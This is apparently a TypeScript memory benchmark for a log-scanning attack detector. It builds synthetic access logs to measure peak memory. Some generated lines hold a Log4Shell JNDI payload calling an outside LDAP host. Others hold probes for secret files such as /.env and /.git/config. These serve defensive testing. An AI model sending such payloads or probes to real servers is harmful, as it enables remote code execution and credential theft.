/**
 * Memory benchmark (`npm run bench:memory`; a benchmark, never a test): the peak RSS of the CLI
 * (`probewatch scan --json`, one child process per scenario) against its goal, for
 * - a realistic day: 1M and 5M lines of `bench/day.ts` (~27,000 distinct clients per million
 *   lines, mostly one-visit browsers, with every attack of the recall benchmark), goal 200 MB,
 * - ordinary traffic: 1M and 5M lines of `bench/generate.ts` (gzip), goal 200 MB,
 * - 60,000 IPv6 /64 scanners, three secret-file probes each, all active within half an hour,
 * - 40,000 lines whose path, referer and user agent are each 8 KB and distinct: 4,000 sources
 *   with ten missing paths each within two minutes, so every source keeps state and samples.
 * - 100,000 sources alerted at once (one Log4Shell request each), the report written as JSON and
 *   as text: what a report of that many alerts costs, with a goal of 1,000 MB (a 1 GB machine).
 * The adversarial scenarios have a goal of 300 MB. Inputs are written to a temporary directory
 * (removed afterwards unless --keep; a day is reused from bench/out/day-N.log when there). Options:
 * --quick (a tenth of every size), --day N,M and --ordinary N,M (line counts; 0 skips), --v6 N,
 * --long N, --alerted N, --field-kb N, --tsx (run the CLI from source instead of the bundle), --no-build (use
 * dist/probewatch.mjs as it is), --keep, --node-flags="FLAGS" (given to each CLI's node, e.g.
 * "--max-semi-space-size=8" to see what the young generation costs).
 */
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { createWriteStream, existsSync, mkdtempSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { createGzip } from 'node:zlib';
import { generateDay } from './day.js';
import { generate, rng } from './generate.js';

/** Peak RSS goals: ordinary and realistic traffic, and inputs built to cost memory. */
const GOAL_MB = 200;
const ADVERSARIAL_GOAL_MB = 300;
/** A report of 100,000 alerts, each with its evidence, stays within a 1 GB machine. */
const REPORT_GOAL_MB = 1000;

const { values } = parseArgs({
  options: {
    quick: { type: 'boolean', default: false },
    day: { type: 'string' },
    ordinary: { type: 'string' },
    v6: { type: 'string' },
    long: { type: 'string' },
    alerted: { type: 'string' },
    'field-kb': { type: 'string', default: '8' },
    tsx: { type: 'boolean', default: false },
    'no-build': { type: 'boolean', default: false },
    keep: { type: 'boolean', default: false },
    'node-flags': { type: 'string', default: '' },
  },
});
const scale = values.quick ? 0.1 : 1;
const counts = (v: string | undefined) =>
  (v ?? `${1e6 * scale},${5e6 * scale}`)
    .split(',')
    .map(Number)
    .filter((n) => n > 0);
const days = counts(values.day);
const ordinary = counts(values.ordinary);
const v6Sources = Number(values.v6 ?? 60_000 * scale);
const longLines = Number(values.long ?? 40_000 * scale);
const alertedSources = Number(values.alerted ?? 100_000 * scale);
const fieldBytes = Number(values['field-kb']) * 1024;

const dir = mkdtempSync(join(tmpdir(), 'probewatch-memory-'));
const fmt = (n: number) => Math.round(n).toLocaleString('en');
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const p2 = (n: number) => String(n).padStart(2, '0');
const clf = (ms: number) => {
  const d = new Date(ms);
  return `${p2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} +0000`;
};

/** Streams lines from a generator into a file (gzip when the name ends in .gz). */
async function writeLines(path: string, lines: Iterable<string>): Promise<void> {
  const file = createWriteStream(path);
  const gz = path.endsWith('.gz') ? createGzip({ level: 1 }) : null;
  if (gz) gz.pipe(file);
  const sink = gz ?? file;
  let batch = '';
  for (const line of lines) {
    batch += `${line}\n`;
    if (batch.length > 1 << 20) {
      if (!sink.write(batch)) await once(sink, 'drain');
      batch = '';
    }
  }
  sink.end(batch);
  await once(file, 'finish');
}

/** Each /64 probes three secret files a second apart; a new /64 starts every 30 ms. */
function* ipv6Scanners(n: number): Generator<string> {
  const rand = rng(64);
  const start = Date.UTC(2024, 2, 12, 9, 0, 0);
  const prefix = (i: number) =>
    `2a05:${(0x100 + (i >> 12)).toString(16)}:${(0x1000 + (i & 0xfff)).toString(16)}:${(1 + Math.floor(rand() * 0xfffe)).toString(16)}`;
  const prefixes: string[] = [];
  const probes = ['/.env', '/.git/config', '/wp-config.php.bak'];
  const ua = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
  const lag = [0, 33, 67]; // 1 s and 2 s later, in steps of 30 ms
  for (let s = 0; s < n + 67; s++) {
    if (s < n) prefixes[s] = prefix(s);
    for (let k = 0; k < 3; k++) {
      const i = s - (lag[k] as number);
      if (i < 0 || i >= n) continue;
      const iid = `${(1 + Math.floor(rand() * 0xfffe)).toString(16)}:${(1 + Math.floor(rand() * 0xfffe)).toString(16)}::${k + 1}`;
      yield `${prefixes[i]}:${iid} - - [${clf(start + i * 30 + k * 1000)}] "GET ${probes[k]} HTTP/1.1" 404 196 "-" "${ua}"`;
      if (k === 2) prefixes[i] = ''; // done with this scanner: keep the generator small
    }
  }
}

/** Lines whose path, referer and user agent are each `bytes` long and never repeat. */
function* longFields(n: number, bytes: number): Generator<string> {
  const rand = rng(8192);
  const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_';
  let pool = '';
  while (pool.length < 1 << 20) pool += alphabet[Math.floor(rand() * 64)];
  const filler = (len: number) => {
    const at = Math.floor(rand() * (pool.length - len));
    return pool.slice(at, at + len);
  };
  const sources = Math.max(1, Math.floor(n / 10));
  const start = Date.UTC(2024, 2, 12, 9, 0, 0);
  const spanMs = 110_000; // ten lines per source inside one two-minute window
  for (let j = 0; j < n; j++) {
    const s = j % sources;
    const ip = `${11 + (s >> 16)}.${(s >> 8) & 255}.${s & 255}.7`;
    const id = `${j.toString(36)}-`;
    const path = `/wp-content/plugins/${id}${filler(bytes - 24 - id.length)}.php`;
    const referer = `https://${id}.example.net/${filler(bytes - 21 - id.length)}`;
    const ua = `Mozilla/5.0 (${id}${filler(bytes - 14 - id.length)})`;
    yield `${ip} - - [${clf(start + Math.floor((j / n) * spanMs))}] "GET ${path} HTTP/1.1" 404 196 "${referer}" "${ua}"`;
  }
}

interface Result {
  name: string;
  input: string;
  lines: number;
  seconds: number;
  rssMb: number;
  exit: number | null;
  alerts: number;
  /** Distinct sources the report counted (listed + clean). */
  sources: number;
  goalMb: number;
}

/** One line from each of `n` addresses, each a Log4Shell probe: `n` sources alerted at once. */
function* log4ShellSources(n: number): Generator<string> {
  const t = clf(Date.UTC(2024, 0, 1, 10, 0, 0));
  for (let i = 0; i < n; i++) {
    const ip = `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;
    yield `${ip} - - [${t}] "GET /?q=\${jndi:ldap://203.0.113.5/a${i}} HTTP/1.1" 404 10 "-" "curl/8.4"`;
  }
}

/**
 * Runs `probewatch scan --json` (or the text report, `text`) on one file in a child; returns its
 * peak RSS and alert count.
 */
async function scan(name: string, path: string, lines: number, goalMb = ADVERSARIAL_GOAL_MB, textReport = false): Promise<Result> {
  const cli = values.tsx ? ['--import', 'tsx', '--no-warnings', 'lambdas/cli/bin.ts'] : ['dist/probewatch.mjs'];
  const started = process.hrtime.bigint();
  const nodeFlags = (values['node-flags'] ?? '').split(' ').filter((f) => f !== '');
  const child = spawn(
    process.execPath,
    [...nodeFlags, '--import', './bench/rss-hook.mjs', ...cli, 'scan', ...(textReport ? [] : ['--json']), '--no-progress', path],
    {
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
  // The report can be large: count alerts as it streams by instead of keeping it.
  let alerts = 0;
  let listed = 0;
  let clean = 0;
  let tail = '';
  child.stdout.setEncoding('utf8');
  child.stdout.on('data', (chunk: string) => {
    if (textReport) {
      // The text report: its header counts the alerts and the quiet sources.
      const h = /(\d+) alerted, (\d+) suspicious, ([\d,]+) quiet/.exec(tail + chunk);
      if (h && !alerts) [alerts, listed, clean] = [Number(h[1]), Number(h[2]), Number(String(h[3]).replace(/,/g, ''))];
      tail = (tail + chunk).slice(-200);
      return;
    }
    const text = tail + chunk;
    alerts += text.split('"triggeredAt":').length - 1;
    listed += text.split('"verdict":').length - 1;
    const c = /"cleanSources":\s*(\d+)[,\n}]/.exec(text);
    if (c) clean = Number(c[1]);
    // Carry a possibly cut token into the next chunk, never one already counted.
    const counted = Math.max(text.lastIndexOf('"triggeredAt":') + 14, text.lastIndexOf('"verdict":') + 10, c ? c.index + c[0].length : 0);
    tail = text.slice(Math.max(counted, text.length - 40));
  });
  let stderr = '';
  child.stderr.setEncoding('utf8');
  child.stderr.on('data', (c: string) => {
    stderr = (stderr + c).slice(-4000);
  });
  const [exit] = (await once(child, 'close')) as [number | null];
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  const rss = /PEAK_RSS_KB=(\d+)/.exec(stderr);
  if (exit !== 0) process.stderr.write(`${name}: the CLI exited with ${exit}: ${stderr.slice(-600)}\n`);
  const mb = statSync(path).size / 1e6;
  return {
    name,
    input: `${mb.toFixed(0)} MB${path.endsWith('.gz') ? ' gzip' : ''}`,
    lines,
    seconds,
    rssMb: rss ? Number(rss[1]) / 1024 : Number.NaN,
    exit,
    alerts,
    sources: textReport ? alerts + listed + clean : listed + clean,
    goalMb,
  };
}

function row(r: Result): string {
  const verdict = Number.isNaN(r.rssMb) ? 'no figure' : r.rssMb < r.goalMb ? 'met' : 'NOT met';
  return `${r.name.padEnd(44)} ${fmt(r.lines).padStart(10)}  ${r.input.padStart(13)}  ${r.seconds.toFixed(1).padStart(6)} s  ${fmt(r.sources).padStart(8)}  ${fmt(r.alerts).padStart(7)}  ${`${fmt(r.rssMb)} MB`.padStart(9)}  < ${r.goalMb} MB ${verdict}${r.exit === 0 ? '' : ` (exit ${r.exit})`}`;
}

if (!values.tsx && !values['no-build']) {
  const b = spawnSync(process.execPath, ['scripts/build-cli.mjs'], { stdio: 'inherit' });
  if (b.status !== 0) throw new Error('building dist/probewatch.mjs failed');
}
console.log(
  `\nCLI ${values.tsx ? 'from source (tsx)' : 'dist/probewatch.mjs'}, node ${process.version}${values['node-flags'] ? ` ${values['node-flags']}` : ''}, ${process.arch}; inputs in ${dir}`,
);
console.log(
  `${'scenario'.padEnd(44)} ${'lines'.padStart(10)}  ${'input'.padStart(13)}  ${'time'.padStart(8)}  ${'sources'.padStart(8)}  ${'alerts'.padStart(7)}  ${'peak RSS'.padStart(9)}  goal`,
);
try {
  for (const n of days) {
    let path = `bench/out/day-${n}.log`;
    let lines = n;
    if (!existsSync(path)) {
      path = join(dir, `day-${n}.log`);
      lines = (await generateDay({ lines: n, seed: 8, logPath: path, truthPath: join(dir, `day-${n}.truth.json`) })).lines;
    }
    console.log(row(await scan(`realistic day (bench/day.ts), ${fmt(n)} lines`, path, lines, GOAL_MB)));
    if (!values.keep && path.startsWith(dir)) rmSync(path);
  }
  for (const n of ordinary) {
    // Same generator and seed as `npm run bench`: reuse its file when it is there.
    let path = `bench/out/combined-${n}.log.gz`;
    if (!existsSync(path)) {
      path = join(dir, `combined-${n}.log.gz`);
      await generate(n, '/dev/null', path);
    }
    console.log(row(await scan(`ordinary traffic, ${fmt(n)} lines`, path, n, GOAL_MB)));
  }
  if (v6Sources > 0) {
    const path = join(dir, 'ipv6-scanners.log');
    await writeLines(path, ipv6Scanners(v6Sources));
    console.log(row(await scan(`${fmt(v6Sources)} IPv6 /64 scanners × 3 secret files`, path, v6Sources * 3)));
    if (!values.keep) rmSync(path);
  }
  if (longLines > 0) {
    const path = join(dir, 'long-fields.log');
    await writeLines(path, longFields(longLines, fieldBytes));
    console.log(row(await scan(`${fmt(longLines)} lines, ${values['field-kb']} KB path+referer+UA each`, path, longLines)));
    if (!values.keep) rmSync(path);
  }
  if (alertedSources > 0) {
    const path = join(dir, 'alerted.log');
    await writeLines(path, log4ShellSources(alertedSources));
    console.log(row(await scan(`${fmt(alertedSources)} sources alerted, JSON report`, path, alertedSources, REPORT_GOAL_MB)));
    console.log(row(await scan(`${fmt(alertedSources)} sources alerted, text report`, path, alertedSources, REPORT_GOAL_MB, true)));
    if (!values.keep) rmSync(path);
  }
} finally {
  if (!values.keep) rmSync(dir, { recursive: true, force: true });
}
